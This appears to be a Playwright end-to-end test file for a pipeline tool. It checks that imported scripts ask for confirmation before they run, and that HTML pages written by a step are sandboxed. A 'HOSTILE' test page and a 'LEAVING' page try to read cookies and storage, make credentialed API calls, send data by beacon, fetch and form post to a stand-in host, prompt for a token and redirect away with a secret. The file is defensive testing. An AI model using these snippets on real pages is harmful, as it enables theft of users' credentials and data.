"""What a real browser does with what comes from elsewhere."""

from __future__ import annotations

import json
from typing import Any

import pytest
from playwright.sync_api import BrowserContext, ConsoleMessage, FilePayload, FrameLocator, Page, Route, expect

from tests.e2e.documents import document, node
from tests.e2e.server import Server

THEIRS = "def main(dataset1, dataset2):\n    print('theirs ran')\n"
#: A busy machine draws late; what does not come at all still fails.
MINUTE = 60_000
expect.set_options(timeout=MINUTE)


@pytest.fixture
def home(server: Server, context: BrowserContext, page: Page) -> Page:
    """The owner's browser, on the first page."""
    page.set_default_timeout(MINUTE)
    page.goto(server.manage("sign_in_link").stdout.strip())
    expect(page.get_by_role("heading", name="Home")).to_be_visible()
    return page


def runs_of(server: Server, pipeline: str) -> list[dict[str, Any]]:
    rows: list[dict[str, Any]] = server.get(f"runs/?pipeline={pipeline}")["results"]
    return rows


def test_a_document_that_is_opened_asks_before_its_code_runs_here(server: Server, home: Page) -> None:
    drawn = document([node("theirs", "execute_python_script", script=THEIRS)], [], name="From a friend")
    file: FilePayload = {
        "name": "friend.json",
        "mimeType": "application/json",
        "buffer": json.dumps(drawn).encode(),
    }
    home.locator("input[type=file]").set_input_files(file)
    run = home.get_by_role("button", name="Run", exact=True).first
    run.click()
    dialog = home.get_by_role("dialog", name="This pipeline runs a script as you")
    expect(dialog.get_by_role("listitem")).to_have_text("Execute Python Script")

    dialog.get_by_role("button", name="Read it").click()
    code = dialog.get_by_role("textbox", name="Execute Python Script: script 1 of 1")
    expect(code).to_contain_text("theirs ran")
    expect(code).to_have_attribute("contenteditable", "false")
    dialog.get_by_role("button", name="Cancel").click()
    expect(dialog).to_be_hidden()
    expect(run).to_be_enabled()
    pipeline = home.url.rpartition("/")[2]
    assert runs_of(server, pipeline) == []

    run.click()
    with home.expect_response(lambda answer: answer.url.endswith("/runs/") and answer.status == 201) as said:
        dialog.get_by_role("button", name="Run", exact=True).click()
    expect(dialog).to_be_hidden()
    ended = server.finished(said.value.json()["id"])
    assert ended["status"] == "succeeded"
    # Asked once: the next run starts at once.
    with home.expect_response(lambda answer: answer.url.endswith("/runs/") and answer.status == 201) as again:
        run.click()
    assert len(runs_of(server, pipeline)) == 2
    server.finished(again.value.json()["id"])

    # The other way in: a paste.
    pasted = {**drawn, "nodes": [node("theirs", "execute_python_script", script="# new\n" + THEIRS)]}
    home.get_by_role("application").focus()
    home.evaluate(
        """(text) => {
            const data = new DataTransfer();
            data.setData("text/plain", text);
            const event = new ClipboardEvent("paste", { clipboardData: data, bubbles: true });
            document.activeElement.dispatchEvent(event);
        }""",
        json.dumps(pasted),
    )
    run.click()
    expect(dialog.get_by_role("listitem")).to_have_count(1)
    dialog.get_by_role("button", name="Read it").click()
    expect(dialog.get_by_role("textbox")).to_contain_text("# new")


#: What a hostile page tries. Each line of its report is "name: got …" or "name: no". Of a beacon, a form and
#: a frame that leaves it cannot tell what became: the test looks at what was asked for.
HOSTILE = """<!doctype html><title>x</title><pre id="report"></pre>
<form id="f" method="post" target="_top"></form>
<script>
const report = document.getElementById("report");
const say = (name, got) => { report.textContent += `${name}: ${got === null ? "no" : "got " + got}\\n`; };
const attempt = async (name, action) => {
  try { say(name, String(await action())); } catch { say(name, null); }
};
const soon = (event) => new Promise((resolve, reject) => {
  event.onload = () => resolve("loaded");
  event.onopen = () => resolve("opened");
  event.onerror = () => reject(new Error());
});
const image = (src) => { const made = new Image(); const done = soon(made); made.src = src; return done; };
(async () => {
  await attempt("cookie", () => document.cookie);
  await attempt("localStorage", () => localStorage.length);
  await attempt("sessionStorage", () => sessionStorage.length);
  await attempt("indexedDB", () => indexedDB.open("x").result);
  await attempt("caches", () => caches.keys());
  await attempt("parent", () => { if (parent === self) throw 0; return parent.document.title; });
  await attempt("frame element", () => { if (!frameElement) throw 0; return frameElement; });
  await attempt("api", async () => (await fetch("SERVER/api/v1/me/", { credentials: "include" })).status);
  await attempt("api without cors", async () => (await fetch("SERVER/api/v1/me/", { mode: "no-cors" })).type);
  await attempt("outside", async () => (await fetch("http://outside.test/fetch", { mode: "no-cors" })).type);
  await attempt("beacon", () => { navigator.sendBeacon("http://outside.test/beacon", "x"); throw 0; });
  await attempt("image", () => image("http://outside.test/image.png"));
  await attempt("own image", () => image("SERVER/static/nowhere.png"));
  await attempt("socket", () => soon(new WebSocket("SERVER/ws/runs/1/".replace("http", "ws"))));
  await attempt("script", () => import("http://outside.test/script.js"));
  await attempt("worker", () => soon(new Worker("data:text/javascript,postMessage(1)")));
  await attempt("service worker", () => navigator.serviceWorker.register("x.js"));
  await attempt("popup", () => { const made = open("http://outside.test/popup"); if (!made) throw 0; });
  await attempt("dialog", () => { if (prompt("Your token?") === null) throw 0; });
  await attempt("form", () => { f.action = "http://outside.test/form"; f.submit(); throw 0; });
  await attempt("top", () => { if (top === self) throw 0; top.location = "http://outside.test/top"; });
  say("origin", self.origin);
  say("the end", "all");
})();
</script>"""
#: A chart as libraries write it: inline styles, scripts and SVG, compiled code, pictures as data.
CHART = """<!doctype html><style>rect { fill: teal }</style><div id="chart"></div>
<img id="dot" src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAACAkQBADs=" alt="dot">
<script>
const bar = (height, at) => `<rect x="${at * 12}" y="0" width="10" height="${height}"/>`;
const bars = new Function("heights", "bar", "return heights.map(bar).join('')")([10, 20, 30], bar);
document.getElementById("chart").innerHTML = `<svg role="img" aria-label="three bars">${bars}</svg>`;
</script>"""
#: It leaves for somewhere else with what it knows.
LEAVING = "<p>gone</p><script>location = 'http://outside.test/leaving?secret'</script>"


@pytest.fixture
def outside(context: BrowserContext) -> list[str]:
    """Addresses beyond this server that the browser asks for; nobody is there."""
    asked: list[str] = []

    def note(route: Route) -> None:
        asked.append(route.request.url)
        route.abort()

    context.route("**://outside.test/**", note)
    return asked


def logged_pages(server: Server, **pages: str) -> tuple[str, dict[str, str]]:
    """A run of a script that logs these pages; its id, and the address of each."""
    calls = "".join(f"    log.html({name!r}, {html!r})\n" for name, html in pages.items())
    script = f"from jackfield import log\ndef main(dataset1, dataset2):\n{calls}"
    drawn = document([node("draw", "execute_python_script", script=script)], [])
    run = server.finished(server.start_run(drawn))
    assert run["status"] == "succeeded", run
    items = server.get(f"runs/{run['id']}/steps/draw/logged/")["items"]
    assert [(item["kind"], item["data"]["bytes"]) for item in items] == [
        ("html", len(html.encode())) for html in pages.values()
    ]
    return run["id"], {item["name"]: item["data"]["address"] for item in items}


def is_refusal_to_frame(message: ConsoleMessage) -> bool:
    """Whether the page's own policy kept a frame from going elsewhere."""
    return "outside.test" in message.text and "default-src 'self'" in message.text


def report_of(frame: FrameLocator | Page) -> dict[str, str]:
    expect(frame.locator("#report")).to_contain_text("the end")
    lines = frame.locator("#report").inner_text().strip().splitlines()
    return dict(line.split(": ", 1) for line in lines)


def test_a_page_that_a_step_wrote_draws_and_reaches_nothing(
    server: Server, home: Page, context: BrowserContext, outside: list[str]
) -> None:
    hostile = HOSTILE.replace("SERVER", server.url)
    run, addresses = logged_pages(server, chart=CHART, hostile=hostile, leaving=LEAVING)
    with home.expect_console_message(is_refusal_to_frame):
        home.goto(f"{server.url}/runs/{run}?step=draw")
        home.get_by_role("tab", name="Results").click()
        home.locator("iframe[title=leaving]").scroll_into_view_if_needed()

    chart = home.frame_locator("iframe[title=chart]")
    expect(chart.get_by_role("img", name="three bars").locator("rect")).to_have_count(3)
    assert chart.locator("rect").first.evaluate("(bar) => getComputedStyle(bar).fill") == "rgb(0, 128, 128)"
    assert chart.locator("#dot").evaluate("(image) => image.naturalWidth") == 1

    home.locator("iframe[title=hostile]").scroll_into_view_if_needed()
    expected = {"origin": "got null", "the end": "got all"}
    report = report_of(home.frame_locator("iframe[title=hostile]"))
    assert len(report) > 20
    assert {name: said for name, said in report.items() if said != "no"} == expected

    assert home.url.startswith(f"{server.url}/runs/{run}")

    # Opened by itself it has no more than in its frame.
    alone = context.new_page()
    alone.goto(server.url + addresses["hostile"])
    report = report_of(alone)
    assert {name: said for name, said in report.items() if said != "no"} == expected
    assert len(context.pages) == 2
    assert outside == []


def test_a_page_is_served_to_the_owner_alone_and_frames_nobody_elses_site(server: Server) -> None:
    _, addresses = logged_pages(server, chart=CHART)
    path = addresses["chart"].removeprefix("/api/v1/")
    answer = server.call("GET", path)
    policy = {
        name: rest for name, *rest in map(str.split, answer.headers["Content-Security-Policy"].split(";"))
    }
    assert policy["sandbox"] == ["allow-scripts"]
    assert (policy["default-src"], policy["frame-ancestors"]) == (["'none'"], ["'self'"])
    assert answer.headers["X-Frame-Options"] == "SAMEORIGIN"
    assert answer.headers["Content-Type"] == "text/html; charset=utf-8"
    assert answer.content.decode() == CHART
    assert server.call("GET", path, Authorization="Bearer wrong").status == 401
    assert server.call("GET", path.replace("/logged/", "/logged/9")).status == 404
